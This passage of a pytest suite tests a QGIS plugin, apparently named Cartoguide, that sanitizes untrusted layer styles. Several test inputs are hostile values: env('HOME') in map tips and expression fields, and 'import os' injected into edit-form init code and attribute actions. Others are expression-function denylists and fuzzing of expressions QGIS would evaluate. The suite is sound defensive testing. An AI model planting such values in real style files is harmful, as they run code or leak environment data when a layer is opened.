    for text in (hostile, style[:200], "<qml/>", "no style", "<html><body/></html>"):
        with pytest.raises(CartoguideError, match="places"):
            show_foreign(points(), own(layer, text))


def test_programs_and_forms_are_left_out(project):
    layer = points()
    layer.setMapTipTemplate("[% env('HOME') %]")
    layer.addExpressionField("env('HOME')", layer.fields()[0])
    from qgis.PyQt.QtXml import QDomDocument

    document = QDomDocument()
    layer.exportNamedStyle(document)
    style = document.toString().replace("<editforminitcode>", "<editforminitcode>import os")
    drawing = allowed_style(style.replace("<attributeactions>", '<attributeactions><actionsetting type="1" '
                                                               'action="import os"/>'), svg_library())
    for word in ("import os", "HOME", "mapTip", "attributeactions", "editform"):
        assert word not in drawing.text
    assert any("actions" in text for text in drawing.left_out)


def test_a_style_beside_the_file_is_judged_too(project, tmp_path):
    """QGIS loads it when a layer is opened: a document without a style would show it."""
    layer, style = with_symbol("SvgMarker", {"name": canary_file(tmp_path), "size": "20"})
    apply_style(layer, style)
    assert CANARY_COLOUR in colours(drawn(layer))
    assert show_foreign(layer, own(layer, "")) != ()
    assert CANARY_COLOUR not in colours(drawn(layer))


# the judge and QGIS


def test_every_function_of_qgis_is_decided():
    """A function of a new QGIS is left out until somebody has looked at it."""
    names = {name.lower() for function in QgsExpression.Functions() for name in [function.name(), *function.aliases()]
             if not name.startswith("cartoguide_")}
    undecided = {name for name in names if name.lstrip("$") not in LEFT_OUT and name not in ALLOWED_FUNCTIONS}
    if Qgis.QGIS_VERSION_INT < 32300:
        assert undecided == set()
    assert set() == LEFT_OUT & ALLOWED_FUNCTIONS
    for name in undecided | {name for name in names if name in LEFT_OUT}:
        assert expression_problem(f"{name}('x')"), name


WORDS = st.sampled_from((
    "env", "ENV", "eval", "upper", "concat", "var", "attribute", "map_get", "item_variables", "CASE", "WHEN", "THEN",
    "END", "IN", "NOT", "LIKE", "@user_account_name", "@map_scale", "@geometry", "$geometry", "$area", "name",
    "\"pop\"",
    "\"env\"", "\"a\"\"b\"", "'x'", "'a''b'", "'\\''", "'--'", "'/*'", "--", "/*", "*/", "\n", "(", ")", "(", ")", "[",
    "]", ",", "+", "||", ":=", "=", "~", "1", "1e9", ".5", "1.", "'", '"', "\\", "@", "$", "é", "\u00a0", "x1", "//"))


@pytest.mark.slow
@settings(max_examples=1500 if ALL else 300, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(WORDS, max_size=14), st.booleans())
def test_what_qgis_would_evaluate_has_been_judged(parts, is_spaced):
    text = (" " if is_spaced else "").join(parts)
    expression = QgsExpression(text)
    if expression.hasParserError() or expression_problem(text):
        return
    functions = {name.lower() for name in expression.referencedFunctions()} - {"var"}
    assert functions <= ALLOWED_FUNCTIONS
    assert expression.referencedVariables() <= ALLOWED_VARIABLES


@pytest.mark.parametrize("expression", READING)
def test_qgis_understands_the_hostile_expressions(project, expression):
    """Else these tests would show nothing."""
    assert not QgsExpression(expression).hasParserError()
    assert expression_problem(expression)
